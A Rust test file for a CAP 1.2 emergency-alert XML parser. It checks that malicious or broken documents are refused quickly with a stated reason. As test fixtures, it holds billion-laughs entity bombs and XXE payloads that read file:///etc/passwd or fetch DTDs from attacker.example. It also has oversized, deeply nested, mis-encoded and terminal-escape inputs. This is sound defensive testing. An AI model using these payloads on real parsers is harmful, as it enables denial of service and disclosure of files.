//! Documents made to do harm, or broken on the way: refused at once, with the reason.

use crate::support::{alert_with, refusal, HEAD, INFO};
use cpu_time::ThreadTime;
use muster_cap::{limits, Alert, Refused};
use std::time::Duration;

/// What a refusal may take of a processor, in the unoptimised builds of tests too.
const AT_ONCE: Duration = Duration::from_millis(200);

#[track_caller]
fn refused(document: impl AsRef<[u8]>, reason: &str) {
	let document = document.as_ref();
	let told = refusal(document);
	assert!(told.contains(reason), "{told}");
	assert!(told.len() < 8_000, "the reason has {} bytes", told.len());
	// What else the machine does is not counted, but it slows caches down: once is not enough to say that it is slow.
	let took = || {
		let started = ThreadTime::now();
		refusal(document);
		started.elapsed()
	};
	assert!((0..3).any(|_| took() < AT_ONCE), "{reason}: took {:?}", took());
}

#[test]
fn entity_bombs() {
	let mut bomb = String::from("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
	for level in 1..10 {
		let inner = format!("&lol{};", level - 1).repeat(10);
		bomb.push_str(&format!("<!ENTITY lol{level} \"{inner}\">"));
	}
	refused(format!("{bomb}]>{}", alert_with("<note>&lol9;</note>")), "DOCTYPE");
	let quadratic = format!("<!DOCTYPE a [<!ENTITY x \"{}\">]>", "x".repeat(100_000));
	refused(
		format!("{quadratic}{}", alert_with(&format!("<note>{}</note>", "&x;".repeat(10_000)))),
		"DOCTYPE",
	);
}

#[test]
fn entities_from_outside() {
	let secret = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
	refused(format!("{secret}{}", alert_with("<note>&x;</note>")), "line 1: the document has a DOCTYPE");
	let server = "<!DOCTYPE a SYSTEM \"http://attacker.example/a.dtd\">";
	refused(format!("<?xml version='1.0'?>\n<!-- -->\n{server}{}", alert_with("")), "line 3");
	let parameter = "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://attacker.example/\"> %x;]>";
	refused(format!("{parameter}{}", alert_with("")), "DOCTYPE");
	refused(alert_with("<note>&xxe;</note>"), "entity `&xxe;`");
	refused(alert_with("<note>&nbsp;</note>"), "write the character itself");
}

#[test]
fn ten_megabytes() {
	let large = alert_with(&format!("<note>{}</note>", "x".repeat(10 << 20)));
	refused(&large, "at most 1048576");
	refused(vec![b'<'; 10 << 20], "at most 1048576");
	let fits = limits::BYTES - alert_with("<note></note>").len();
	assert!(Alert::parse(alert_with(&format!("<note>{}</note>", "x".repeat(fits))).as_bytes()).is_ok());
	refused(alert_with(&format!("<note>{}</note>", "x".repeat(fits + 1))), "has 1048577 bytes");
}

#[test]
fn other_encodings() {
	let text = alert_with(INFO);
	let wide = |mark: &[u8], unit: fn(u16) -> [u8; 2]| {
		mark.iter().copied().chain(text.encode_utf16().flat_map(unit)).collect::<Vec<u8>>()
	};
	refused(wide(&[0xFF, 0xFE], u16::to_le_bytes), "in UTF-16");
	refused(wide(&[0xFE, 0xFF], u16::to_be_bytes), "in UTF-16");
	refused(wide(&[], u16::to_le_bytes), "in UTF-16");
	refused(wide(&[], u16::to_be_bytes), "in UTF-16");
	let utf32: Vec<u8> = text.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect();
	refused(utf32, "in UTF-32");
	for declared in ["GB18030", "GBK", "UTF-16", "ISO-8859-1", "UTF-7", "x\u{1b}[2J"] {
		let wrong = format!("<?xml version=\"1.0\" encoding=\"{declared}\"?>{text}");
		refused(wrong, "XML declaration says the encoding is");
	}
	// "武汉" in GBK under a declaration of UTF-8.
	let mut lying =
		format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>{}", alert_with("<note>")).into_bytes();
	let at = lying.len() - "</alert>".len();
	lying.splice(at..at, [0xCE, 0xE4, 0xBA, 0xBA]);
	refused(lying, "is not UTF-8; send the document in UTF-8");
	// An overlong form of `<`, which some decoders let through.
	refused([alert_with("<note>").as_bytes(), &[0xC0, 0xBC]].concat(), "is not UTF-8");
	// A surrogate in UTF-8 clothes.
	refused([alert_with("<note>").as_bytes(), &[0xED, 0xA0, 0x80]].concat(), "is not UTF-8");
}

#[test]
fn deep_nesting() {
	for depth in [17, 1_000, 100_000] {
		let nested = format!("{}{}", "<x>".repeat(depth), "</x>".repeat(depth));
		refused(alert_with(&nested), "nested more than 16 deep");
	}
	refused(alert_with(&"<x>".repeat(300_000)), "nested more than 16 deep");
	refused(alert_with(&format!("<info>{}</info>", "<area>".repeat(100))), "nested more than 16 deep");
}

#[test]
fn many_elements() {
	refused(alert_with(&"<code>x</code>".repeat(20_000)), "more than 20000 elements");
	refused(alert_with(&"<x/>".repeat(200_000)), "more than 20000 elements");
	refused(alert_with(&"<!---->a".repeat(100_000)), "more than 20000 elements");
	refused(alert_with(&INFO.repeat(65)), "at most 64");
	let points = "1,1 ".repeat(20_001);
	let area = format!("<area><areaDesc>x</areaDesc><polygon>{points}</polygon></area></info>");
	refused(alert_with(&INFO.replace("</info>", &area)), "more than 20000 points");
	// As many points as the size allows, all of them wrong.
	let wrong =
		format!("<area><areaDesc>x</areaDesc><polygon>{}</polygon></area></info>", "1 ".repeat(400_000));
	refused(alert_with(&INFO.replace("</info>", &wrong)), "is no point");
}

#[test]
fn huge_attributes() {
	refused(format!("<alert xmlns=\"{}\">", "x".repeat(1_000_000)), "a tag has more than 2048 bytes");
	let many: String = (0..90_000).map(|number| format!(" a{number}=\"\"")).collect();
	refused(format!("<alert{many}/>"), "a tag has more than 2048 bytes");
	let namespaces: String = (0..40_000).map(|number| format!(" xmlns:a{number}=\"u\"")).collect();
	refused(format!("<alert{namespaces}/>"), "a tag has more than 2048 bytes");
	// The longest tags there may be, as many as fit.
	let attributes: String = (0..280).map(|number| format!(" {}=''", base26(number))).collect();
	let tag = format!("<code{attributes}>x</code>");
	refused(alert_with(&tag.repeat(1_000_000 / tag.len())), "CAP 1.2 has none");
	// Namespaces that every child inherits and adds to.
	let scoped = |declared: usize, children: usize| {
		let declared: String = (0..declared).map(|number| format!(" xmlns:{}='u'", base26(number))).collect();
		let children = "<code xmlns:zzz='u'>x</code>".repeat(children);
		format!("<alert xmlns=\"{}\"{declared}>{HEAD}{children}", muster_cap::NAMESPACE)
	};
	refused(scoped(120, 18_000), "more than 24 namespaces");
	refused(scoped(22, 18_000), "was it cut off");
}

fn base26(number: usize) -> String {
	let letter = |digit: usize| char::from(b'a' + u8::try_from(digit % 26).expect("below 26"));
	[letter(number / 676), letter(number / 26), letter(number)].iter().collect()
}

#[test]
fn broken_on_the_way() {
	refused("", "the document is empty");
	refused("   \n", "the document is empty");
	refused("<!-- -->", "the document is empty");
	let whole = alert_with(INFO);
	for cut in [1, 20, 100, 200, whole.len() / 2, whole.len() - 1] {
		assert!(matches!(Alert::parse(&whole.as_bytes()[..cut]), Err(Refused::Malformed(_))), "cut at {cut}");
	}
	refused(&whole[..whole.len() - 8], "was it cut off");
	refused(alert_with("<note>a</nota>"), "expected 'note' tag, not 'nota'");
	refused(alert_with("<note><![CDATA[ x</note>"), "no well-formed XML");
	refused(alert_with("<!-- never closed"), "no well-formed XML");
	refused(alert_with("<note a='never closed></note>"), "no well-formed XML");
	refused(alert_with("<note>a & b</note>"), "no well-formed XML");
	refused(alert_with("<note>]]></note>"), "no well-formed XML");
	refused(format!("{whole}{whole}"), "no well-formed XML");
	refused(alert_with("<cap:note>x</cap:note>"), "unknown namespace prefix 'cap'");
	refused(alert_with("<note a='1' a='2'>x</note>"), "already defined");
	refused("Dear colleague, please find attached the alert.", "no well-formed XML");
	refused("{\"alert\":{}}", "no well-formed XML");
}

#[test]
fn characters_that_steer() {
	refused(alert_with("<note>a\0b</note>"), "U+0000");
	refused(alert_with("<note>a\u{1b}[2Jb</note>"), "U+001B");
	refused(alert_with("<note>\u{FFFE}</note>"), "U+FFFE");
	refused(alert_with("<note>&#0;</note>"), "`&#0;` names no character");
	refused(alert_with("<note>&#xFFFFFFFF;</note>"), "names no character");
	refused(alert_with("<note>&#xD800;</note>"), "names no character");
	// The C1 controls, which XML allows and terminals obey, do not come out with the reason.
	let steering = alert_with("<references>\u{9b}2J,b,2026-04-02T14:39:01+08:00</references>");
	refused(&steering, "sender and identifier of");
	for document in [steering, "<?xml version='1.0' encoding='\u{1b}[2J'?><a/>".into()] {
		assert!(!refusal(document).contains(char::is_control));
	}
	assert!(refusal(alert_with(&format!("<references>{}</references>", "x".repeat(900_000)))).len() < 1_000);
}

#[test]
fn doubles_of_what_may_stand_once() {
	for element in ["identifier", "sender", "sent", "status", "msgType", "scope"] {
		let body = format!("<{element}>x</{element}>");
		refused(alert_with(&body), &format!("{element}: stands there 2 times"));
	}
	let doubled = INFO.replace("<event>x</event>", "<event>x</event><event>y</event>");
	refused(alert_with(&doubled), "info[1]/event: stands there 2 times");
	refused(alert_with("<note>a</note><note>b</note>"), "note: stands there 2 times");
}

#[test]
fn what_is_no_cap_1_2() {
	for (document, reason) in [
		(
			"<alert xmlns='urn:oasis:names:tc:emergency:cap:1.1'/>",
			"an older version; ask the sender for CAP 1.2",
		),
		("<alert xmlns='http://www.incident.com/cap/1.0'/>", "an older version"),
		("<feed xmlns='http://www.w3.org/2005/Atom'/>", "out of its feed or envelope"),
		("<alert/>", "has no namespace"),
		("<html xmlns='http://www.w3.org/1999/xhtml'><body/></html>", "not <alert>"),
		("<info xmlns='urn:oasis:names:tc:emergency:cap:1.2'/>", "not <alert>"),
	] {
		refused(document, reason);
	}
}

#[test]
fn thousands_of_faults_are_told_as_fifty() {
	let told = refusal(alert_with(&"<code a='1'><b/></code>".repeat(9_000)));
	assert_eq!(told.lines().count(), 50);
}
